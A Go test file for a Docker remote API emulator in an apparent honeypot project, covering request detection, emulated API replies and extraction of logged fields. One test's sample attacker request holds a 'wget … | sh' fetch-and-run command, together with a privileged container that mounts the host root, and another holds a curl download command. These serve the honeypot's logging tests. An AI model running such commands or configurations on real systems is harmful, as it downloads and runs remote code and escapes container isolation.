package docker

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/masscanned-go/masscanned/internal/app"
	"github.com/masscanned-go/masscanned/internal/app/apptest"
)

var now = time.Date(2026, 11, 30, 9, 24, 13, 0, time.UTC)

func conn() *app.Conn {
	return apptest.Conn(app.TCP, "linux", "198.51.100.1:40000", "192.0.2.10:2375", now)
}

func TestDetect(t *testing.T) {
	h := New()
	for _, tc := range []struct {
		in   string
		want app.Verdict
	}{
		{"", app.Maybe},
		{"GE", app.Maybe},
		{"GET ", app.Maybe},
		{"GET /", app.Maybe},
		{"GET /_pi", app.Maybe},
		{"GET /_ping HTTP/1.1\r\n", app.Yes},
		{"HEAD /_ping HTTP/1.1\r\n", app.Yes},
		{"GET /version HTTP/1.1\r\n", app.Yes},
		{"GET /info HTTP/1.1\r\n", app.Yes},
		{"GET /containers/json?all=1 HTTP/1.1\r\n", app.Yes},
		{"POST /containers/create HTTP/1.1\r\n", app.Yes},
		{"POST /v1.43/containers/create HTTP/1.1\r\n", app.Yes},
		{"GET /v1.24/version HTTP/1.1\r\n", app.Yes},
		{"GET /v1.4", app.Maybe},
		{"POST /images/create?fromImage=alpine HTTP/1.1\r\n", app.Yes},
		{"GET /images/json HTTP/1.1\r\n", app.Yes},
		{"POST /exec/abc/start HTTP/1.1\r\n", app.Yes},
		{"OPTIONS /_ping HTTP/1.1\r\n", app.Yes},
		// other HTTP paths stay the HTTP handler's
		{"GET / HTTP/1.1\r\n", app.No},
		{"GET /index.html HTTP/1.1\r\n", app.No},
		{"GET /images/logo.png HTTP/1.1\r\n", app.No},
		{"GET /versions HTTP/1.1\r\n", app.No},
		{"GET /info.php HTTP/1.1\r\n", app.No},
		{"GET /v1/api HTTP/1.1\r\n", app.No},
		{"GET /version/x HTTP/1.1\r\n", app.No},
		{"PROPFIND /containers/ HTTP/1.1\r\n", app.No},
		{"SSH-2.0-x\r\n", app.No},
		{"*1\r\n$4\r\nPING\r\n", app.No},
	} {
		if got := h.Detect([]byte(tc.in), app.TCP); got != tc.want {
			t.Errorf("Detect(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

func serve(t *testing.T, c *app.Conn, in string) (string, map[string]any, bool) {
	t.Helper()
	var out strings.Builder
	got := map[string]any{}
	buf := []byte(in)
	closed := false
	for len(buf) > 0 {
		res := New().Serve(c, buf)
		if res.NeedMore {
			t.Fatalf("NeedMore at %q", buf)
		}
		out.Write(res.Reply)
		for _, f := range res.Fields {
			got[f.Key] = f.Value
		}
		if res.Close {
			closed = true
			break
		}
		buf = buf[res.Consumed:]
	}
	return out.String(), got, closed
}

func TestPing(t *testing.T) {
	out, f, closed := serve(t, conn(), "GET /_ping HTTP/1.1\r\nHost: x:2375\r\nUser-Agent: Docker-Client/24.0.7 (linux)\r\n\r\n")
	want := "HTTP/1.1 200 OK\r\nApi-Version: 1.43\r\nBuilder-Version: 2\r\nCache-Control: no-cache, no-store, must-revalidate\r\nDocker-Experimental: false\r\nOstype: linux\r\nPragma: no-cache\r\nServer: Docker/24.0.7 (linux)\r\nDate: Mon, 30 Nov 2026 09:24:13 GMT\r\nContent-Length: 2\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nOK"
	if out != want || closed {
		t.Errorf("ping:\n%q\nwant\n%q", out, want)
	}
	if f["user_agent"] != "Docker-Client/24.0.7 (linux)" || f["path"] != "/_ping" || f["method"] != "GET" {
		t.Errorf("fields %v", f)
	}
}

func body(t *testing.T, resp string) string {
	t.Helper()
	_, b, ok := strings.Cut(resp, "\r\n\r\n")
	if !ok {
		t.Fatalf("no body: %q", resp)
	}
	return b
}

func TestVersionInfo(t *testing.T) {
	c := conn()
	c.Banners = map[string]string{"docker": "26.1.4", "uname": "Linux h 6.1.0-18-arm64 #1 SMP Debian 6.1.76-1 aarch64 GNU/Linux", "hostname": "build01"}
	out, _, _ := serve(t, c, "GET /version HTTP/1.1\r\n\r\n")
	if !strings.HasPrefix(out, "HTTP/1.1 200 OK\r\nApi-Version: 1.45\r\nContent-Type: application/json\r\nDocker-Experimental: false\r\nOstype: linux\r\nServer: Docker/26.1.4 (linux)\r\nDate: ") {
		t.Errorf("version head %q", out)
	}
	var v map[string]any
	if err := json.Unmarshal([]byte(body(t, out)), &v); err != nil {
		t.Fatal(err)
	}
	if v["Version"] != "26.1.4" || v["ApiVersion"] != "1.45" || v["Arch"] != "arm64" || v["KernelVersion"] != "6.1.0-18-arm64" {
		t.Errorf("version %v", v)
	}
	out, _, _ = serve(t, c, "GET /v1.45/info HTTP/1.1\r\n\r\n")
	var i map[string]any
	if err := json.Unmarshal([]byte(body(t, out)), &i); err != nil {
		t.Fatal(err)
	}
	if i["Name"] != "build01" || i["ServerVersion"] != "26.1.4" || i["Architecture"] != "aarch64" || i["Containers"] != 0.0 {
		t.Errorf("info %v", i)
	}
}

func TestRoutes(t *testing.T) {
	for _, tc := range []struct {
		name, in, status, body string
		close                  bool
		fields                 map[string]any
	}{
		{"containers", "GET /containers/json?all=1 HTTP/1.1\r\n\r\n", "200 OK", "[]\n", false, map[string]any{"query": "all=1"}},
		{"create", "POST /v1.43/containers/create?name=x HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" +
			`{"Image":"alpine","Cmd":["sh","-c","wget http://203.0.113.5/x.sh -O- | sh"],"HostConfig":{"Privileged":true,"Binds":["/:/mnt"]}}`,
			"404 Not Found", `{"message":"No such image: alpine:latest"}` + "\n", false,
			map[string]any{"image": "alpine", "command": "sh -c wget http://203.0.113.5/x.sh -O- | sh", "urls": []string{"http://203.0.113.5/x.sh"},
				"privileged": true, "binds": []string{"/:/mnt"}, "name": "x"}},
		{"create entrypoint string", "POST /containers/create HTTP/1.1\r\nContent-Length: %d\r\n\r\n" +
			`{"Image":"busybox:1.36","Entrypoint":"/bin/sh","Cmd":"-c id"}`,
			"404 Not Found", `{"message":"No such image: busybox:1.36"}` + "\n", false, map[string]any{"command": "/bin/sh -c id"}},
		{"create bad json", "POST /containers/create HTTP/1.1\r\nContent-Length: %d\r\n\r\n{x",
			"400 Bad Request", `{"message":"invalid character 'x' looking for beginning of object key string"}` + "\n", false, nil},
		{"create chunked", "POST /containers/create HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n10\r\n{\"Image\":\"nginx\"\r\n1\r\n}\r\n0\r\n\r\n",
			"404 Not Found", `{"message":"No such image: nginx:latest"}` + "\n", false, map[string]any{"image": "nginx"}},
		{"start", "POST /containers/abc123/start HTTP/1.1\r\n\r\n", "404 Not Found", `{"message":"No such container: abc123"}` + "\n", false, map[string]any{"container": "abc123"}},
		{"exec create", "POST /containers/abc/exec HTTP/1.1\r\nContent-Length: %d\r\n\r\n" + `{"Cmd":["curl","http://203.0.113.7/a"]}`,
			"404 Not Found", `{"message":"No such container: abc"}` + "\n", false, map[string]any{"urls": []string{"http://203.0.113.7/a"}}},
		{"exec start", "POST /exec/e1/start HTTP/1.1\r\n\r\n", "404 Not Found", `{"message":"No such exec instance: e1"}` + "\n", false, nil},
		{"too new", "GET /v1.99/version HTTP/1.1\r\n\r\n", "400 Bad Request", `{"message":"client version 1.99 is too new. Maximum supported API version is 1.43"}` + "\n", false, nil},
		{"page not found", "GET /containers/ HTTP/1.0\r\n\r\n", "404 Not Found", `{"message":"page not found"}` + "\n", true, nil},
		{"swarm", "GET /v1.43/swarm HTTP/1.1\r\n\r\n", "503 Service Unavailable", "", false, nil},
		{"bad", "GET /_ping\r\n\r\n", "400 Bad Request", "400 Bad Request", true, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := tc.in
			if strings.Contains(in, "%d") {
				_, b, _ := strings.Cut(in, "\r\n\r\n")
				in = fmt.Sprintf(in, len(b))
			}
			out, f, closed := serve(t, conn(), in)
			if !strings.HasPrefix(out, "HTTP/1.") || out[9:9+len(tc.status)] != tc.status {
				t.Errorf("status: %q", out)
			}
			if tc.body != "" && body(t, out) != tc.body {
				t.Errorf("body %q, want %q", body(t, out), tc.body)
			}
			if closed != tc.close {
				t.Errorf("close %v", closed)
			}
			for k, v := range tc.fields {
				if fmt.Sprint(f[k]) != fmt.Sprint(v) {
					t.Errorf("field %s = %v, want %v", k, f[k], v)
				}
			}
		})
	}
}

func TestPull(t *testing.T) {
	out, f, _ := serve(t, conn(), "POST /v1.43/images/create?fromImage=alpine&tag=latest HTTP/1.1\r\nContent-Length: 0\r\n\r\n")
	if !strings.Contains(out, "Transfer-Encoding: chunked\r\n\r\n") || !strings.HasSuffix(out, "\r\n0\r\n\r\n") ||
		!strings.Contains(out, `{"status":"Pulling from library/alpine","id":"latest"}`) || !strings.Contains(out, `"error":"toomanyrequests: `) {
		t.Errorf("pull: %q", out)
	}
	if f["image"] != "alpine:latest" {
		t.Errorf("fields %v", f)
	}
}

// TestLongBody: a body beyond what is read is skipped, the next request
// on the connection answered.
func TestLongBody(t *testing.T) {
	big := `{"Image":"alpine","Env":["X=` + strings.Repeat("a", 100<<10) + `"]}`
	in := fmt.Sprintf("POST /containers/create HTTP/1.1\r\nContent-Length: %d\r\n\r\n%s", len(big), big) + "GET /_ping HTTP/1.1\r\n\r\n"
	c := conn()
	var out strings.Builder
	var buf []byte
	for off := 0; off < len(in); off += 1460 {
		buf = append(buf, in[off:min(off+1460, len(in))]...)
		for len(buf) > 0 {
			res := New().Serve(c, buf)
			if res.NeedMore {
				break
			}
			out.Write(res.Reply)
			if res.Consumed == 0 || res.Close {
				t.Fatalf("stuck or closed at %d", off)
			}
			buf = buf[res.Consumed:]
		}
		if len(buf) > 40<<10 {
			t.Fatalf("%d bytes buffered", len(buf))
		}
	}
	if !strings.Contains(out.String(), "400 Bad Request") && !strings.Contains(out.String(), "404 Not Found") || !strings.HasSuffix(out.String(), "OK") {
		t.Errorf("%q", out.String())
	}
}

func TestNmap(t *testing.T) {
	get, _, _ := serve(t, conn(), "GET / HTTP/1.0\r\n\r\n")
	apptest.NmapNames(t, "GetRequest", []byte(get), "Docker remote API")
	opt, _, _ := serve(t, conn(), "OPTIONS / HTTP/1.0\r\n\r\n")
	apptest.NmapNames(t, "HTTPOptions", []byte(opt), "Docker remote API")
}

func FuzzDocker(f *testing.F) {
	for _, s := range []string{"GET /_ping HTTP/1.1\r\n\r\n", "POST /containers/create HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		apptest.Drive(t, New(), conn(), data, apptest.Limits{NoUDPReply: true})
		c := conn()
		c.Service = "docker"
		apptest.Drive(t, New(), c, data, apptest.Limits{})
	})
}
